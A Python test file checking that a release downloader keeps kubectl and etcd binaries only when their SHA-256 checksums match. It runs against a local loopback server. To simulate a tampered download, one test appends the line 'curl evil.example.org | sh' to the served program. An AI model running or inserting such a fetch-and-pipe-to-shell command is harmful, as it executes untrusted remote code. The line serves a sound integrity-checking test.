"""Official releases: what the server sent is what its checksum says, or nothing is kept."""

from __future__ import annotations

import hashlib
import io
import tarfile
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from control_plane import official
from control_plane.steps import BuildError

VERSION = "1.36.5"
PROGRAM = b"#!/bin/sh\necho Kubernetes v1.36.5\n"


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the parent's name
        """Keep the test's output for failures."""


@pytest.fixture
def published(tmp_path: Path) -> Path:
    """The folder that the server publishes, with one program and its checksum."""
    folder = tmp_path / "published"
    programs = folder / f"release/v{VERSION}/bin/linux/{official.ARCHITECTURES['x86_64']}"
    for architecture in official.ARCHITECTURES.values():
        programs = folder / f"release/v{VERSION}/bin/linux/{architecture}"
        programs.mkdir(parents=True)
        (programs / "kubectl").write_bytes(PROGRAM)
        (programs / "kubectl.sha256").write_text(hashlib.sha256(PROGRAM).hexdigest())
    return folder


@pytest.fixture
def server(published: Path) -> Iterator[str]:
    """A server on loopback in the place of the real one."""
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(published))) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()
        thread.join()


@pytest.fixture
def target(tmp_path: Path) -> Path:
    """An empty cache."""
    folder = tmp_path / "bin"
    folder.mkdir()
    return folder


def test_a_program_is_fetched_and_can_run(server: str, target: Path) -> None:
    """Its bytes are the server's, and it is executable."""
    official.kubernetes(VERSION, ["kubectl"], target, server)
    assert (target / "kubectl").read_bytes() == PROGRAM
    assert (target / "kubectl").stat().st_mode & 0o777 == 0o755


def test_what_is_not_what_its_checksum_says_is_not_kept(server: str, published: Path, target: Path) -> None:
    """It is an error that names both, and no reason to go on with another source."""
    for program in published.rglob("kubectl"):
        program.write_bytes(PROGRAM + b"curl evil.example.org | sh\n")
    with pytest.raises(BuildError, match="nothing was kept"):
        official.kubernetes(VERSION, ["kubectl"], target, server)
    assert list(target.iterdir()) == []


def test_what_the_server_does_not_have_is_unreachable(server: str, target: Path) -> None:
    """The caller builds it then."""
    with pytest.raises(official.UnreachableError, match="404"):
        official.kubernetes("1.36.99", ["kubectl"], target, server)


def test_a_server_that_is_not_there_is_unreachable(target: Path) -> None:
    """A machine without a way out."""
    with pytest.raises(official.UnreachableError, match="refused"):
        official.kubernetes(VERSION, ["kubectl"], target, "http://127.0.0.1:1")


def test_etcd_is_taken_out_of_its_archive(server: str, published: Path, target: Path) -> None:
    """Of the whole archive only the server is kept; a wrong checksum keeps nothing."""
    for architecture in official.ARCHITECTURES.values():
        name = f"etcd-v3.6.8-linux-{architecture}"
        content = io.BytesIO()
        with tarfile.open(fileobj=content, mode="w:gz") as archive:
            for file in ("README.md", "etcd"):
                entry = tarfile.TarInfo(f"{name}/{file}")
                entry.size = len(PROGRAM)
                archive.addfile(entry, io.BytesIO(PROGRAM))
        folder = published / "v3.6.8"
        folder.mkdir(exist_ok=True)
        (folder / f"{name}.tar.gz").write_bytes(content.getvalue())
        with (folder / "SHA256SUMS").open("a") as sums:
            sums.write(f"{hashlib.sha256(content.getvalue()).hexdigest()}  {name}.tar.gz\n")
    official.etcd("3.6.8", target, server)
    assert [file.name for file in target.iterdir()] == ["etcd"]
    assert (target / "etcd").read_bytes() == PROGRAM
    (published / "v3.6.8/SHA256SUMS").write_text("0" * 64 + f"  etcd-v3.6.8-linux-{official._architecture()}.tar.gz\n")  # noqa: SLF001
    with pytest.raises(BuildError, match="nothing was kept"):
        official.etcd("3.6.8", target, server)
